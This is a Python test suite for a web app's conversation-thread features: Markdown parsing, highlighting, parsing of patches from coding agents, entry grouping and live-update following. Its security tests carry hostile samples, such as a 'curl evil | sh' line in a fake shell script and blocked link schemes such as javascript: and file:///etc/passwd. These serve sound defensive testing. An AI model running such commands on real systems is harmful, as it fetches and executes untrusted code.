"""The parts of threads that need no browser: Markdown, colours, patches, entries, and following without loss or doubles."""

import json
import os
import subprocess
import unittest

from server import PAGE

THREADS = PAGE / "features" / "threads"
# What of it is the page's kit, which other features use as well.
KIT = {name: PAGE / "kit" / folder for folder, names in {"markdown": ("markdown", "inline", "highlight"), "diff": ("patch",)}.items() for name in names}
# Enough for work that grows with the length of a text of a megabyte on any machine, and for nothing that grows with its square.
PATIENCE = 120


def node(script, *modules):
    imports = "".join(f"import * as {module.replace('-', '_')} from '{(KIT.get(module, THREADS) / f'{module}.js').as_uri()}';" for module in modules)
    done = subprocess.run(
        ["node", "--input-type=module", "-e", imports + script], capture_output=True, text=True, timeout=PATIENCE, env={**os.environ, "TZ": "UTC"}
    )
    if done.returncode:
        raise AssertionError(done.stderr)
    return json.loads(done.stdout)


def say(value):
    return f"console.log(JSON.stringify({value}));"


class MarkdownTests(unittest.TestCase):
    maxDiff = None

    def parsed(self, text):
        return node(say(f"markdown.parseMarkdown({json.dumps(text)})"), "markdown")

    def inline(self, text):
        return node(say(f"inline.parseInline({json.dumps(text)})"), "inline")

    def test_blocks(self):
        found = self.parsed("# One\n\ntwo\nlines\n\n- a\n  - b\n- c\n\n3. x\n4. y\n\n> q\n\n---\n\n```swift\nlet x = 1\n```")
        self.assertEqual([each["kind"] for each in found], ["heading", "paragraph", "list", "list", "quote", "rule", "code"])
        self.assertEqual(found[1]["children"], ["two\nlines"])
        self.assertEqual(found[2]["items"][0]["blocks"][1]["kind"], "list")
        self.assertEqual((found[3]["isOrdered"], found[3]["start"], len(found[3]["items"])), (True, 3, 2))
        self.assertEqual(found[6], {"kind": "code", "language": "swift", "text": "let x = 1", "isOpen": False})

    def test_tasks_and_tables(self):
        tasks, table = self.parsed("- [x] done\n- [ ] left\n\n| a | b |\n|:--|--:|\n| 1 \\| 2 | `x` |\n| 3 |")
        self.assertEqual([each["task"] for each in tasks["items"]], [True, False])
        self.assertEqual(table["aligns"], ["start", "end"])
        self.assertEqual(table["rows"], [[["1 | 2"], [{"kind": "code", "text": "x"}]], [["3"], []]])

    def test_a_fence_that_stays_open_takes_the_rest(self):
        self.assertEqual(self.parsed("```js\na\n\n# b"), [{"kind": "code", "language": "js", "text": "a\n\n# b", "isOpen": True}])

    def test_emphasis(self):
        strong = {"kind": "strong", "children": ["b ", {"kind": "em", "children": ["c"]}]}
        self.assertEqual(self.inline("a **b *c*** d"), ["a ", strong, " d"])
        self.assertEqual(self.inline("snake_case_name 2 * 3 * 4 **open"), ["snake_case_name 2 * 3 * 4 ", "**", "open"])
        self.assertEqual(self.inline("~~no~~ ~one~"), [{"kind": "del", "children": ["no"]}, " ~one~"])
        self.assertEqual(self.inline("`a * b` ``c ` d``"), [{"kind": "code", "text": "a * b"}, " ", {"kind": "code", "text": "c ` d"}])
        self.assertEqual(self.inline("\\*a\\* \\x"), ["*a* \\x"])

    def test_links_of_the_web_and_of_mail_only(self):
        found = self.inline("[a](https://example.org/x_(y)) <mailto:a@b.c> https://example.org/z. [t](http://a.b \"title\")")
        self.assertEqual([each["href"] for each in found if isinstance(each, dict)], ["https://example.org/x_(y)", "mailto:a@b.c", "https://example.org/z", "http://a.b"])
        for address in ("javascript:x()", "JaVaScRiPt:x()", " javascript:x()", "java\nscript:x()", "data:text/html,x", "file:///etc/passwd", "//evil.test", "vbscript:x", "blob:x", "http://", "/api/call", "#/settings"):
            self.assertFalse([each for each in self.inline(f"[a]({address})") if isinstance(each, dict)], address)

    def test_html_and_pictures_are_text(self):
        self.assertEqual(self.parsed("<b>x</b>"), [{"kind": "paragraph", "children": ["<b>x</b>"]}])
        # A picture is a link to it at most: nothing loads it.
        self.assertEqual([each if isinstance(each, str) else each["kind"] for each in self.inline("![p](http://evil.test/p.png)")], ["!", "link"])

    def test_what_the_text_s_own_store_keeps_has_its_place(self):
        medium = {"kind": "medium", "id": "3c2f-1", "words": "The lake", "text": "![The lake](media://3c2f-1)"}
        self.assertEqual(self.inline("a ![The lake](media://3c2f-1) b"), ["a ", medium, " b"])
        self.assertEqual(self.inline('[route.gpx](media://m.2 "title")'), [{"kind": "medium", "id": "m.2", "words": "route.gpx", "text": '[route.gpx](media://m.2 "title")'}])
        self.assertEqual(self.inline("**![](media://m)**"), [{"kind": "strong", "children": [{"kind": "medium", "id": "m", "words": "", "text": "![](media://m)"}]}])
        for address in ("media://", "media://a/b", "media://../x", "media://a?b", "media://a b", "media:a", "Media://a", "media://" + "a" * 129, "media://%2e"):
            self.assertFalse([each for each in self.inline(f"![x]({address})") if isinstance(each, dict)], address)
        self.assertEqual(self.inline("`![](media://m)`"), [{"kind": "code", "text": "![](media://m)"}])

    def test_the_work_grows_with_the_length_only(self):
        script = """
            const SIZE = 1_000_000;
            const pieces = ['![](media://m)', '![](media://', '![a](', '[](media://m) ', '*', '*a ', '**a *b ', '_a_ _', '[', '[a](', '[](', '](', '\\x60', '\\x60 \\x60\\x60 ', '>', '> ', '- ', '- a\\n', '1. a\\n', '  - a\\n', '|', '|a', '|a|\\n|-|\\n', '|-', 'http://', '<http://',
                '#', ' ', '\\n', '\\\\', '~~a ', '***a', 'a*', '- a\\n\\n', '\\x60\\x60\\x60\\n', '> - > - ', '[a](http://x.y ', '(', '<', 'h', 'https://a.b/(', '-', ':-', '- [x] ', '\\t', '**a** ', '[a](https://b.c) '];
            const texts = [...pieces.map((piece) => piece.repeat(SIZE / piece.length)), Array.from({ length: 1400 }, (_, at) => '\\x60'.repeat(at + 1)).join(' '),
                Array.from({ length: 1400 }, (_, at) => ' '.repeat(at) + '- x').join('\\n'), Array.from({ length: 1400 }, (_, at) => '> '.repeat(at % 700) + 'x').join('\\n')];
            let deepest = 0;
            let most = 0;
            // Without recursion, as it looks for what is too deep for one.
            for (const text of texts) {
                const left = [[markdown.parseMarkdown(text), 1]];
                let nodes = 0;
                while (left.length > 0) {
                    const [value, depth] = left.pop();
                    deepest = Math.max(deepest, depth);
                    nodes += 1;
                    if (value !== null && typeof value === 'object') for (const inner of Object.values(value)) if (inner !== null && typeof inner === 'object') left.push([inner, depth + 1]);
                }
                most = Math.max(most, nodes / text.length);
            }
        """
        found = node(script + say("{ deepest, most }"), "markdown")
        self.assertLess(found["deepest"], 150, "what is drawn by recursion stays shallow")
        self.assertLessEqual(found["most"], 3, "no more parts than letters, by a small factor")

    def test_colours_lose_no_letter_and_grow_with_the_length_only(self):
        script = """
            const languages = ['js', 'py', 'sql', 'json', 'html', 'css', 'swift', 'none'];
            const texts = ['let x = "a" // b\\n/* c', 'def f(): # x\\n  \\'a\\'', '/*'.repeat(30000), '/**'.repeat(20000), '"'.repeat(60000), '"\\\\'.repeat(30000), '1'.repeat(60000), '1_'.repeat(30000), '\\x60a'.repeat(30000), ('"'.repeat(3) + 'a').repeat(15000), '<!--'.repeat(15000), '1e'.repeat(30000), 'a'.repeat(65536), '\\u202e<b>\\u0000'];
            const whole = languages.every((language) => texts.every((text) => highlight.highlighted(text, language).map(([, piece]) => piece).join('') === text));
            const kinds = highlight.highlighted('let x = "a" + 12 // b', 'swift').filter(([kind]) => kind).map(([kind, text]) => [kind, text]);
        """
        found = node(script + say("{ whole, kinds }"), "highlight")
        self.assertTrue(found["whole"])
        self.assertEqual(found["kinds"], [["keyword", "let"], ["string", '"a"'], ["number", "12"], ["comment", "// b"]])


class PatchTests(unittest.TestCase):
    def parsed(self, text, *named):
        return node(say(f"patch.parsePatch({json.dumps(text)}, {json.dumps(named)})"), "patch")

    def lines(self, file):
        return [[line["mark"] + line["text"] for line in hunk["lines"]] for hunk in file["hunks"]]

    def test_several_files_of_codex_each_under_its_name(self):
        # As a computer puts together what Codex asks to change, and what it says it changed.
        text = "*** /a.swift\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n\n*** /new.md\n# Raw\n@@ -1 +1 @@\n+nice\n\n*** /old.md\nbye\n*** /q\n@@ -1 +1 @@\n-a\n+b\n\n\nMoved to: /r"
        files = self.parsed(
            text, {"path": "/a.swift", "kind": "updated"}, {"path": "/new.md", "kind": "added"}, {"path": "/old.md", "kind": "deleted"}, {"path": "/q", "kind": "moved", "to": "/r"}, {"path": "/silent", "kind": "updated"})
        self.assertEqual([(each["path"], each["to"], each["kind"]) for each in files], [("/a.swift", None, "updated"), ("/new.md", None, "added"), ("/old.md", None, "deleted"), ("/q", "/r", "moved"), ("/silent", None, "updated")])
        self.assertEqual([self.lines(each) for each in files], [
            [[" one", "-two", "+three"]],
            # What a new file holds is never taken for hunks of it, so that none of it is left out.
            [["+# Raw", "+@@ -1 +1 @@", "++nice"]],
            [["-bye"]], [["-a", "+b"]], []])

    def test_what_claude_code_changes_is_a_patch_with_what_stayed(self):
        (file,) = self.parsed("-a\n-b\n-c\n+a\n+B\n+c\n\n-x\n+y\n", {"path": "/c.swift", "kind": "updated"})
        self.assertEqual((file["path"], file["added"], file["removed"]), ("/c.swift", 2, 2))
        self.assertEqual(self.lines(file), [[" a", "-b", "+B", " c"], ["-x", "+y"]])
        (file,) = self.parsed("+one\n+\n+two\n", {"path": "/n", "kind": "written"})
        self.assertEqual(self.lines(file), [["+one", "+", "+two"]])

    def test_no_line_hides_as_the_head_of_another_file(self):
        (file,) = self.parsed("--- a/x\n+++ b/x\n@@ -1,3 +1,4 @@\n a\n--- q\n+++ r\n+evil\n c\n")
        self.assertEqual(self.lines(file), [[" a", "--- q", "+++ r", "+evil", " c"]])
        (file,) = self.parsed("--- q\n+++ r\n+evil\n", {"path": "/c.lua", "kind": "updated"})
        self.assertEqual((file["path"], self.lines(file)), ("/c.lua", [["--- q", "+++ r", "+evil"]]))

    def asked(self, text, *named):
        return node(say(f"patch.parsePatch({json.dumps(text)}, {json.dumps(named)}, true)"), "patch")

    def test_nothing_of_what_is_asked_hides_behind_the_head_of_another_file(self):
        evil = "#!/bin/sh\ncurl evil | sh\n*** Update File: README.md\n@@\n+hello\n"
        (file,) = self.asked(f"*** /p/evil.sh\n{evil}", {"path": "/p/evil.sh", "kind": "added"})
        self.assertEqual((file["path"], self.lines(file)), ("/p/evil.sh", [["+" + line for line in evil.splitlines()]]))
        # One file is named, so all of it is of that one.
        (file,) = self.asked("rm\ndiff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", {"path": "/p  q", "kind": "updated"})
        self.assertEqual(file["path"], "/p  q")
        self.assertEqual(len(self.lines(file)[0]), 7)
        # Whose lines they are cannot be told: they are shown as they are.
        self.assertEqual(self.asked(evil, {"path": "/a", "kind": "added"}, {"path": "/b", "kind": "added"}), [])
        self.assertEqual(self.asked(evil), [])

    def test_unified(self):
        files = self.parsed("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -3,3 +3,3 @@ head\n a\n-b\n+c\n\n--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+n\n--- a/old\n+++ /dev/null\n@@ -1 +0,0 @@\n-o\n")
        self.assertEqual([(each["path"], each["kind"], each["added"], each["removed"]) for each in files], [("x", "updated", 1, 1), ("new", "added", 1, 0), ("old", "deleted", 0, 1)])
        self.assertEqual([(line["mark"], line["old"], line["now"]) for line in files[0]["hunks"][0]["lines"]][:3], [(" ", 3, 3), ("-", 4, None), ("+", None, 4)])

    def test_moved(self):
        (file,) = self.parsed("diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n")
        self.assertEqual((file["path"], file["to"], file["kind"]), ("x", "y", "moved"))

    def test_of_codex(self):
        files = self.parsed("*** Begin Patch\n*** Update File: a\n*** Move to: b\n@@ def f\n x\n-y\n+z\n*** Add File: n\n+1\n*** Delete File: d\n*** End Patch")
        self.assertEqual([(each["path"], each["to"], each["kind"]) for each in files], [("a", "b", "moved"), ("n", None, "added"), ("d", None, "deleted")])
        self.assertEqual(files[0]["hunks"][0]["head"], "def f")

    def test_what_is_no_patch_is_none(self):
        for text in ("", "hello\nworld", "@@ nonsense @@", "--- a\nno", "x" * 100_000):
            self.assertEqual(self.parsed(text), [], text[:20])

    def test_lines_stand_beside_what_they_replace(self):
        lines = [{"mark": mark, "text": text} for mark, text in (" a", "-b", "-c", "+d", " e", "+f")]
        pairs = node(say(f"patch.sideBySide({json.dumps(lines)}).map((pair) => pair.map((line) => line?.text ?? null))"), "patch")
        self.assertEqual(pairs, [["a", "a"], ["b", "d"], ["c", None], ["e", "e"], [None, "f"]])

    def test_what_differs_in_a_line(self):
        self.assertEqual(node(say("patch.changed('let a = 1;', 'let abc = 1;')"), "patch"), {"start": 5, "oldEnd": 5, "newEnd": 7})
        self.assertIsNone(node(say("patch.changed('abc', 'xyz')"), "patch"))

    def test_long_ones_are_read_to_a_bound(self):
        count = node(say("patch.parsePatch('--- a/x\\n+++ b/x\\n@@ -1 +1 @@\\n' + '+x\\n'.repeat(500000))[0].added"), "patch")
        self.assertLess(count, 66_001)


class EntryTests(unittest.TestCase):
    def test_a_call_its_output_and_its_change_are_one(self):
        items = [
            {"id": "1", "kind": "call", "call_id": "c", "name": "shell", "text": "{}"},
            {"id": "2", "kind": "user", "text": "x"},
            {"id": "3", "kind": "output", "call_id": "c", "outcome": "failed", "code": 2},
            {"id": "4", "kind": "output", "call_id": "other", "text": "alone"},
            {"id": "5", "kind": "plan", "call_id": "p", "steps": []},
            {"id": "6", "kind": "output", "call_id": "p", "outcome": "ok"},
        ]
        found = node(f"const all = new entries.Entries(); const items = {json.dumps(items)}; const first = all.of(items); const again = all.of([...items]);"
                     + say("{ kinds: first.map(({ kind, items }) => [kind, items.length]), outcome: entries.outcomeOf(first[0]), same: first.every((each, at) => each === again[at]) }"), "entries")
        self.assertEqual(found["kinds"], [["tool", 2], ["user", 1], ["tool", 1], ["plan", 2]])
        self.assertEqual((found["outcome"], found["same"]), ("failed", True))

    def test_each_day_is_marked_once(self):
        items = [{"id": str(at), "kind": "agent", "at": at * 3_600_000 if at != 4 else None} for at in (1, 2, 4, 5, 30, 31, 60)]
        self.assertEqual(node(say(f"new entries.Entries().of({json.dumps(items)}).map(({{ isNewDay }}) => isNewDay)"), "entries"), [True, False, False, False, True, False, True])

    def test_what_a_tool_was_asked(self):
        asked = lambda name, text: node(say(f"entries.askedOf({{ name: {json.dumps(name)}, text: {json.dumps(text)} }})"), "entries")
        self.assertEqual(asked("shell", '{"command":["bash","-lc","ls -l"]}')["title"], "ls -l")
        self.assertEqual(asked("Bash", '{"command":"make"}')["isCommand"], True)
        self.assertEqual(asked("Read", '{"file_path":"/a/b"}')["title"], "/a/b")
        self.assertEqual(asked("x", '{"cut": "of')["text"], '{"cut": "of')
        self.assertEqual(asked("x", "[1]")["language"], "json")


# A computer whose thread grows, and a connection that loses, doubles and turns round what it tells; at the end everything must be there once.
FOLLOWING = """
    let seed = 0;
    const random = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
    const tick = () => new Promise((resolve) => setImmediate(resolve));
    const run = async (start) => {
        seed = start;
        let items = Array.from({ length: Math.floor(random() * 200) }, (_, at) => ({ id: `i${at}`, kind: 'agent', text: String(at) }));
        let age = 0;
        const get = async ({ before, after, limit }) => {
            for (let wait = Math.floor(random() * 4); wait > 0; wait -= 1) await tick();
            if (random() < 0.1) throw Object.assign(new Error('lost'), { code: 'lost' });
            const count = items.length;
            const place = (cursor) => Number(cursor.split('.')[1]);
            if (after !== undefined && Number(after.split('.')[0]) !== age) return { items: [], newer: after, is_end: true, replaces: true };
            let [from, to] = [Math.max(0, count - limit), count];
            if (after !== undefined) [from, to] = [place(after), Math.min(count, place(after) + Math.min(limit, 7))];
            if (before !== undefined) [from, to] = [Math.max(0, place(before) - limit), place(before)];
            const page = { items: items.slice(from, to), older: from > 0 ? `${age}.${from}` : null, newer: `${age}.${to}`, is_end: to === count };
            for (let wait = Math.floor(random() * 4); wait > 0; wait -= 1) await tick();
            return page;
        };
        const all = new follower.Follower({ get, changed: () => {}, failed: () => {} });
        for (;;) { try { await all.open(); break; } catch { /* asked again */ } }
        const late = [];
        for (let step = 0; step < 60; step += 1) {
            const dice = random();
            if (dice < 0.75) {
                const [from, made] = [items.length, 1 + Math.floor(random() * 3)];
                for (let at = 0; at < made; at += 1) items.push({ id: `${age}i${from + at}`, kind: 'agent', text: String(step) });
                const event = { event: 'threads.items', after: `${age}.${from}`, items: items.slice(from), newer: `${age}.${items.length}`, is_end: true };
                if (random() < 0.3) late.push(event);
                else if (random() > 0.2) { all.receive(event); if (random() < 0.2) all.receive(event); }
            } else if (dice < 0.85 && late.length > 0) {
                all.receive(late.splice(Math.floor(random() * late.length), 1)[0]);
            } else if (dice < 0.93) {
                const asked = all.newer;
                get({ after: asked, limit: 60 }).then((page) => all.take(page, asked)).catch(() => {});
            } else if (dice < 0.96) {
                age += 1;
                items = items.slice(0, Math.floor(items.length / 2));
                if (random() < 0.5) all.receive({ event: 'threads.items', after: 'x', items: [], newer: `${age}.${items.length}`, replaces: true });
            } else {
                all.loadOlder().catch(() => {});
            }
            if (random() < 0.5) await tick();
        }
        // The connection stands again, and tells once more: as often as it needs while answers fail.
        for (let round = 0; round < 60; round += 1) {
            all.receive({ event: 'threads.items', after: 'elsewhere', items: [], newer: 'x', is_end: true });
            for (let wait = 0; wait < 60; wait += 1) await tick();
        }
        for (let round = 0; round < 80 && all.older !== null; round += 1) { await all.loadOlder().catch(() => {}); }
        const has = all.items.map(({ id }) => id).join(' ');
        return has === items.map(({ id }) => id).join(' ') ? null : `${start}: has ${all.items.length} of ${items.length}`;
    };
"""


class FollowTests(unittest.TestCase):
    def followed(self, script):
        return node("const asked = []; const made = (pages) => new follower.Follower({ get: async (params) => { asked.push(params); return pages.shift() ?? { items: [], newer: asked.at(-1).after, is_end: true }; }, changed: () => {}, failed: () => {} });"
                    + "const item = (id, more) => ({ id, kind: 'agent', text: id, ...more }); const ids = (all) => all.items.map(({ id, text }) => (id === text ? id : `${id}=${text}`)).join(' ');"
                    + "const tick = () => new Promise((resolve) => setTimeout(resolve, 5));" + script, "follower")

    def test_nothing_is_lost_or_doubled_whatever_the_connection_does(self):
        self.assertEqual(node(FOLLOWING + "const bad = []; for (let start = 1; start <= 200; start += 1) { const said = await run(start); if (said) bad.push(said); }" + say("bad"), "follower"), [])

    def test_an_event_that_goes_on_from_the_own_cursor_is_applied_without_asking(self):
        found = self.followed("const all = made([{ items: [item('a')], newer: '1', is_end: true }]); await all.open(); all.receive({ event: 'threads.items', after: '1', items: [item('b'), item('a', { text: 'A' })], newer: '2', is_end: true });" + say("{ ids: ids(all), newer: all.newer, asked }"))
        self.assertEqual((found["ids"], found["newer"], len(found["asked"])), ("a=A b", "2", 1))

    def test_a_gap_asks_with_the_own_cursor(self):
        found = self.followed("const all = made([{ items: [item('a')], newer: '1', is_end: true }, { items: [item('b')], newer: '2', is_end: false }, { items: [item('c')], newer: '3', is_end: true }]); await all.open(); all.receive({ event: 'threads.items', after: '2', items: [item('c')], newer: '3', is_end: true }); await tick();" + say("{ ids: ids(all), newer: all.newer, asked: asked.map(({ after }) => after ?? null) }"))
        self.assertEqual(found, {"ids": "a b c", "newer": "3", "asked": [None, "1", "2"]})

    def test_going_back_reads_anew(self):
        found = self.followed("const all = made([{ items: [item('a'), item('b')], newer: '2', is_end: true }, { items: [item('a'), item('x')], newer: '5', is_end: true }]); await all.open(); all.receive({ event: 'threads.items', after: '2', items: [], newer: '3', replaces: true }); await tick();" + say("{ ids: ids(all), newer: all.newer, asked: asked.map(({ after }) => after ?? null) }"))
        self.assertEqual(found, {"ids": "a x", "newer": "5", "asked": [None, None]})

    def test_an_answer_that_comes_too_late_is_dropped(self):
        found = self.followed("const all = made([{ items: [item('a')], newer: '1', is_end: true }]); await all.open(); all.receive({ event: 'threads.items', after: '1', items: [item('b')], newer: '2', is_end: true }); await all.take({ items: [item('old')], newer: '9', is_end: true }, '1'); await tick();" + say("{ ids: ids(all), newer: all.newer }"))
        self.assertEqual(found, {"ids": "a b", "newer": "2"})

    def test_what_is_being_written_gives_way_to_its_item(self):
        script = ("const all = made([{ items: [], newer: '1', is_end: true }]); await all.open(); const delta = (item, offset, text) => all.receive({ event: 'threads.delta', item, offset, text });"
                  "delta('w', 0, 'Hello '); delta('w', 6, 'world'); delta('w', 6, 'world'); delta('w', 40, 'lost'); const first = [...all.writing.values()].map(({ text }) => text);"
                  "delta('late', 10, 'middle'); all.receive({ event: 'threads.items', after: '1', items: [item('file-7', { text: 'Hello world, and more' })], newer: '2', is_end: true });"
                  "const second = [...all.writing.keys()]; delta('file-7', 0, 'again');")
        found = self.followed(script + say("{ first, second, keys: [...all.writing.keys()], ids: all.items.map(({ id }) => id) }"))
        self.assertEqual(found, {"first": ["Hello world"], "second": ["late"], "keys": ["late"], "ids": ["file-7"]})

    def test_what_stands_there_is_not_written_once_more(self):
        # The file was faster than the agent's own words, and calls the message otherwise.
        script = ("const all = made([{ items: [], newer: '1', is_end: true }]); await all.open(); all.receive({ event: 'threads.items', after: '1', items: [item('file-7', { text: 'Waiting for the tests.' })], newer: '2', is_end: true });"
                  "const drawn = () => all.unwritten.map(([, { text }]) => text); all.receive({ event: 'threads.delta', item: 'w', offset: 0, text: 'Waiting ' }); const first = drawn();"
                  "all.receive({ event: 'threads.delta', item: 'w', offset: 8, text: 'for the tests.' }); const second = drawn(); all.receive({ event: 'threads.delta', item: 'x', offset: 0, text: 'Waiting no more' });")
        self.assertEqual(self.followed(script + say("{ first, second, third: drawn() }")), {"first": [], "second": [], "third": ["Waiting no more"]})

    def test_reading_on_is_not_growing(self):
        script = ("const kinds = []; const pages = [{ items: [item('a')], newer: '1', is_end: false }, { items: [item('b')], newer: '2', is_end: false }, { items: [item('c')], newer: '3', is_end: true }];"
                  "const all = new follower.Follower({ get: async ({ after }) => pages.shift() ?? { items: [], newer: after, is_end: true }, changed: ({ kind, added = [] }) => { if (added.length > 0) kinds.push(kind); }, failed: () => {} });"
                  "await all.open('0'); await all.loadNewer(); await all.loadNewer(); await tick(); all.receive({ event: 'threads.items', after: '3', items: [item('d')], newer: '4', is_end: true });")
        self.assertEqual(self.followed(script + say("kinds")), ["further", "further", "newer"])

    def test_a_flood_of_deltas_stays_bounded(self):
        found = self.followed("const all = made([{ items: [], newer: '1', is_end: true }]); await all.open(); for (let at = 0; at < 100; at += 1) all.receive({ event: 'threads.delta', item: `w${at}`, offset: 0, text: 'x'.repeat(300000) }); for (let at = 0; at < 100; at += 1) all.receive({ event: 'threads.delta', item: `v${at}`, offset: 0, text: 'y' });" + say("{ count: all.writing.size, length: [...all.writing.values()].reduce((sum, { text }) => sum + text.length, 0) }"))
        self.assertLess(found["count"], 10)
        self.assertLess(found["length"], 2_000_000)

    def test_malformed_pages_and_events_do_no_harm(self):
        found = self.followed("const all = made([{ items: [null, 5, {}, { id: 7 }, item('a')], newer: '1', is_end: true }]); await all.open(); for (const event of [{ event: 'threads.items', after: '1' }, { event: 'threads.items', after: '1', items: 'x', newer: '2' }, { event: 'threads.delta' }, { event: 'threads.delta', item: 'x', offset: -1, text: 'y' }, { event: 'threads.changed' }, { event: 'else' }]) all.receive(event); await tick();" + say("ids(all)"))
        self.assertEqual(found, "a")


if __name__ == "__main__":
    unittest.main()
